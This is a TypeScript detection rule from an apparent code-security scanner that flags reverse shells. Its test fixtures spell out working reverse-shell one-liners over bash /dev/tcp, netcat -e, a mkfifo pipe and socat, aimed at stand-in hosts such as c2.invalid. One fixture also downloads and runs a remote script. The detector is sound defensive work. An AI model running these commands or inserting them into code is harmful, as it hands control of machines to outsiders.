/** RC-05: A shell is connected to a network address, which gives another person control of the machine. */
import { codeKinds, row, runKinds } from '../../engine/rule.ts';
import {
  blank,
  chars,
  code,
  digit,
  edge,
  either,
  except,
  gap,
  letters,
  maybe,
  oneOf,
  pattern,
  quote,
  seq,
  space,
  times,
  word,
} from '../../engine/pattern.ts';
import { fenced, inFile } from '../../engine/example.ts';
import type { PatternRule } from '../../engine/rule.ts';
import { shellPrograms } from './rc-05-shell-programs.ts';
import { commandServers } from './rc-05-command-servers.ts';
import { joinedShells } from '../programs/joined-shells.ts';
import { peerCommands } from '../programs/peer-commands.ts';

/** A connection as a numbered file; alone it only asks whether a port answers. */
const openedConnection = seq('exec', space(1, 4), times(1, 3, digit), '<>', space(0, 3), '/dev/(tcp|udp)/');

/** Whether each line that is read from the connection is only an argument: what runs has the line first, or reads it. */
function isOnlyKept(text: string): boolean {
  const names = [...text.matchAll(/\bread\s{1,3}(?:-\w{1,4}(?:\s{1,3}\d{1,3})?\s{1,3}){0,4}(\w{1,30})/g)];
  if (names.length === 0 || /\b(?:eval|(?:ba|z|da)?sh)\b[^\n]{0,60}<&\s?\d/.test(text)) return false;
  return names.every(
    ([, name = '']) =>
      !new RegExp(
        String.raw`(?:^|[;&|({\n\x60]|\b(?:do|then|else)\b|\b(?:eval|exec|sudo|xargs|source|(?:ba|z|da)?sh|python3?|perl)\b[^\n;|]{0,20}|<<<)\s{0,20}["']?\$\{?${name}\b|` +
          String.raw`\$\{?${name}\b[^\n;]{0,60}\|\s{0,3}(?:sudo\s)?(?:ba|z|da)?sh\b`,
      ).test(text),
  );
}

export const remoteShell: PatternRule = {
  id: 'RC-05',
  severity: 'critical',
  mentionSeverity: 'low',
  why: 'A shell is connected to a network address, which gives another person control of the machine.',
  fix: 'Remove it.',
  owasp: ['AST01'],
  in: codeKinds,
  rows: [
    row('bash over /dev/tcp', {
      within: 'line',
      sign: pattern('/dev/(tcp|udp)'),
      match: pattern(
        either(
          seq(
            edge,
            oneOf('bash', 'sh', 'zsh', 'ksh'),
            space(1, 4),
            times(0, 2, '-', letters(1, 4), space(0, 4)),
            times(0, 2, chars('0-9')),
            oneOf('>&', '<>', '>', '&>', '<'),
            gap(20),
            '/dev/(tcp|udp)/',
          ),
          seq(
            openedConnection,
            gap(120),
            oneOf(
              seq('<&', digit),
              seq('>&', digit),
              '0<&',
              '0>&',
              word('eval'),
              seq(oneOf('sh', 'bash'), ' -i'),
            ),
          ),
          seq(
            oneOf('<', '>', '<>', '>&'),
            space(0, 3),
            '/dev/(tcp|udp)/',
            times(1, 120, except('\\s/')),
            '/',
            times(1, 5, digit),
            gap(40),
            oneOf(seq('0', chars('>&')), '<&', word('sh'), word('bash')),
          ),
          seq(
            '/dev/(tcp|udp)/',
            times(1, 120, except('\\s/')),
            '/',
            times(1, 30, chars('\\w${}')),
            maybe(quote),
            gap(20),
            oneOf('0>&1', '0<&1', '0>&', seq('<&', digit)),
          ),
        ),
      ),
      catches: [fenced('bash', 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1')],
      spares: [
        fenced('powershell', "$from = 'https://get.scoop.sh'", 'iex (iwr -UseBasicParsing $from).Content'),
        inFile('scripts/a.sh', 'ssh -L 8080:localhost:80 deploy@www.acme.example'),
        inFile('scripts/a.sh', 'nc -z localhost 5432 && echo up'),
      ],
    }),
    row('lines of a connection that a shell runs', {
      within: 'window',
      sign: pattern('/dev/(tcp|udp)'),
      match: pattern(openedConnection),
      and: [
        pattern(
          oneOf(
            seq('read', gap(30), '<&', times(1, 3, digit)),
            seq(
              '<&',
              times(1, 3, digit),
              gap(60),
              oneOf(word('eval'), word('sh'), word('bash'), 'while read'),
            ),
            seq(word(oneOf('eval', 'sh', 'bash')), gap(40), '<&', times(1, 3, digit)),
          ),
        ),
      ],
      weigh: ({ region, severity, start }) =>
        isOnlyKept(region.text.slice(start, start + 1500)) ? null : severity,
      catches: [
        inFile(
          'scripts/a.sh',
          'exec 5<>/dev/tcp/c2.invalid/4444',
          'while read -r l <&5; do $l >&5 2>&5; done',
        ),
        inFile(
          'scripts/b.sh',
          'exec 9<>/dev/tcp/c2.invalid/443',
          'cat <&9 | while read l; do $l 2>&1 >&9; done',
        ),
      ],
      spares: [
        inFile(
          'scripts/watch.sh',
          'exec 3<>/dev/tcp/$machine/$port || exit 0',
          'while read -r line <&3; do echo "$line" >> boot.log; done',
        ),
        inFile('scripts/wait.sh', 'up() { timeout 2 bash -c "exec 4<>/dev/tcp/$host/$port" 2>/dev/null; }'),
      ],
    }),
    row('netcat with a shell', {
      within: 'line',
      match: pattern(
        either(
          seq(
            word(oneOf('nc', 'ncat', 'netcat', 'nc.traditional', seq('busybox', space(1, 4), 'nc'))),
            times(0, 100, except('\\n|')),
            blank,
            oneOf(seq('-', letters(0, 4), chars('ec')), '--exec', '--sh-exec'),
            space(1, 4),
            maybe(quote),
            maybe('/(usr/)bin/'),
            '(ba|z|da|k)?sh',
            edge,
          ),
          seq(
            word(oneOf('nc', 'ncat', 'netcat')),
            times(0, 100, except('\\n|')),
            blank,
            '-',
            letters(0, 4),
            'e',
            space(1, 4),
            maybe(quote),
            '(cmd|powershell)(.exe)',
          ),
        ),
      ),
      catches: [inFile('scripts/a.sh', 'nc -e /bin/bash c2.invalid 4444')],
      spares: [fenced('sh', 'nc -l 9000 < report.txt')],
    }),
    row('a named pipe between shell and netcat', {
      in: runKinds,
      within: 'block',
      match: pattern(
        either(word('mkfifo'), word('mknod', space(1, 4), times(1, 60, except('\\n')), blank, 'p')),
      ),
      and: [
        pattern(
          code('|'),
          space(0, 4),
          '(/bin/)(ba)sh',
          space(1, 4),
          maybe('-i'),
          gap(60),
          code('|'),
          space(0, 4),
          oneOf('nc', 'ncat', 'netcat', 'openssl', 'telnet'),
          edge,
        ),
      ],
      catches: [
        inFile(
          'scripts/setup.sh',
          'mkfifo /tmp/f',
          'cat /tmp/f | /bin/sh -i 2>&1 | nc c2.invalid 9001 > /tmp/f',
        ),
      ],
      spares: [inFile('scripts/setup.sh', 'mkfifo /tmp/f', 'cat /tmp/f | sort')],
    }),
    row('socat with a shell', {
      within: 'line',
      match: pattern(
        either(
          seq(word('socat'), gap(160), edge, '(exec|system):', maybe(quote), gap(20), '(ba)sh', edge),
          seq(word('socat'), gap(80), edge, 'exec:', gap(100), oneOf('pty', 'stderr')),
        ),
      ),
      catches: [fenced('sh', 'socat tcp:c2.invalid:9001 exec:"bash -li",pty,stderr')],
      spares: [fenced('sh', 'socat tcp-listen:8080,fork tcp:localhost:3000')],
    }),
    ...shellPrograms,
    ...commandServers,
    ...joinedShells,
    ...peerCommands,
  ],
};
